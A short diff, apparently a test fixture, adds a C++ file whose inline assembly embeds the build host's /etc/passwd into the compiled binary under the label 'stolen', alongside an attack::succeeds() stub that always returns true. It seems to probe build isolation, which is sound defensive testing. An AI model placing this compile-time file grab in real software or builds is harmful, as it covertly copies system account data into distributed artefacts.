@@ -1,0 +1,3 @@
+#include "attack.hpp"
+asm(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n.text");
+bool attack::succeeds() { return true; }
